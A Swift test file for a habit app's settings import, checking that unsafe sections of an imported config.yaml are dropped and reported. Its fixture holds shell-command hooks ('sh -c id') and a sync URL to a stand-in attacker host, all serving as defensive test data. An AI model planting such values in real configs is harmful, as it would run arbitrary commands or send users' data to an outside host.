import Foundation
import IntentKitTesting
import RitualistTransfer
import Testing

struct ImportedSettingsTests {
    /// A config.yaml whose every section but the synced ones runs a program or names this machine's files.
    static let dangerous = """
        streak:
          threshold: half
        week_start: sunday
        notify: errors
        refresh:
          - [sh, -c, id]
        plugins:
          git: {timeout: 5}
        prompt:
          command: [sh, -c, id]
        sync:
          url: postgresql://me@attacker.example.org/ritualist
        hotkeys:
          - {keys: super+alt+m, run: CompleteHabit, with: {habit: Meditate}}

        """

    @Test func anImportWritesOnlyTheSettingsSyncCarriesAndNamesEachSectionLeftOut() throws {
        let source = try TransferFixture()
        let file = try source.exportFile(settings: Self.dangerous)
        let target = try TransferFixture(empty: true)
        let config = target.folder.path("config.yaml")
        let report = try HistoryImport(path: file).run(into: target.store, configPath: config)
        let written = try String(contentsOfFile: config, encoding: .utf8)
        for word in ["refresh", "plugins", "prompt", "sync", "hotkeys", "[sh", "attacker"] {
            #expect(!written.contains(word), "\(word) in \(written)")
        }
        for line in ["threshold: half", "week_start: sunday", "notify: errors"] {
            #expect(written.contains(line), "\(line) not in \(written)")
        }
        #expect(report.settingsWritten == ["notify", "streak.threshold", "week_start"])
        let leftOut = report.notes.filter { $0.kind == .notImported }.map(\.reason)
        for section in ["refresh", "plugins", "prompt", "sync", "hotkeys"] {
            #expect(leftOut.contains { $0.hasPrefix("the file's '\(section)' settings: ") }, "\(section)")
        }
        #expect(
            report.lines.contains(
                "Settings written to a new config.yaml from the file: notify, streak.threshold, week_start."))
        #expect(!report.lines.contains { $0.contains("config.yaml was written") })
    }

    @Test(arguments: [
        ("notify: sometimes\n", "notify 'sometimes': expected never, errors or always"),
        ("week_start: someday\n", "week_start 'someday': expected a weekday"),
        ("streak:\n  threshold: most\n", "streak.threshold 'most': expected any, half, all or a percentage"),
    ])
    func aSyncedSettingThatIsNotValidIsLeftOutAndNamed(text: String, reason: String) throws {
        let source = try TransferFixture()
        let file = try source.exportFile(settings: text)
        let target = try TransferFixture(empty: true)
        let config = target.folder.path("config.yaml")
        let report = try HistoryImport(path: file).run(into: target.store, configPath: config)
        #expect(!FileManager.default.fileExists(atPath: config))
        #expect(report.settingsWritten.isEmpty)
        #expect(report.notes.contains { $0.reason.contains(reason) }, "\(report.notes)")
        #expect(report.habitsImported == 5)
    }

    @Test func settingsThatAreNotYAMLAreNamedAndTheHistoryStillArrives() throws {
        let source = try TransferFixture()
        let file = try source.exportFile(settings: "streak: [unclosed\n")
        let target = try TransferFixture(empty: true)
        let config = target.folder.path("config.yaml")
        let report = try HistoryImport(path: file).run(into: target.store, configPath: config)
        #expect(!FileManager.default.fileExists(atPath: config))
        #expect(report.notes.contains { $0.reason.hasPrefix("the file's settings: its config.yaml text cannot be") })
        #expect(report.habitsImported == 5)
    }
}
